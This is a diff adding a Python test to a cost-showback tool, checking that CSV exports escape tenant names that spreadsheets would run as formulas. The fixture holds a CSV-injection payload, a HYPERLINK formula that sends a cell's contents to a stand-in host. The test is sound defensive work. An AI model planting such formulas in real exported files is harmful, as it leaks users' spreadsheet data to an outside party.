@@ -322,3 +322,21 @@ def test_a_service_at_zero_replicas_whose_gateway_pods_still_ran_is_all_idle_not
     assert [(r.kind, r.usd, r.replica_s) for r in result.rows] == [(IDLE, Decimal("0.008440700"), Decimal(0))]
     assert result.spend_usd == Decimal("0.008440700")
     assert any("ml/vc" in n and "no replica ran" in n for n in result.notes), result.notes
+
+
+def test_a_tenant_a_spreadsheet_would_read_as_a_formula_is_text_in_the_csv() -> None:
+    # The tenant is any client's header value (printable ASCII): '=HYPERLINK(...)' in the CSV a FinOps user opens
+    # in a spreadsheet was a live formula (a link that sends the sheet's cells away). OWASP's CSV-injection rule: a
+    # cell starting with = + - @ (or a tab or CR) starts with ' instead; JSON keeps the value as read.
+    from modalscale.costmodel.showback import TenantUsage
+    from modalscale.operator.showback import LedgerWindow
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"ok")'
+    usage = {("ml", "vc"): [TenantUsage(evil, "image", 10, 1), TenantUsage("@sum", "text", 10, 1),
+                            TenantUsage("acme", "image", 10, 1)]}
+    result = build_showback({("ml", "vc"): LedgerWindow(Decimal("0.06"), Decimal(60), 1.0)}, usage,
+                            END - dt.timedelta(minutes=1), END)
+    rows = list(csv.DictReader(io.StringIO(render(result, ["tenant"], "csv"))))
+    assert [r["tenant"] for r in rows] == ["'" + evil, "'@sum", "acme", ""]
+    assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())
+    assert [r["tenant"] for r in json.loads(render(result, ["tenant"], "json"))["rows"]] == [evil, "@sum", "acme", ""]
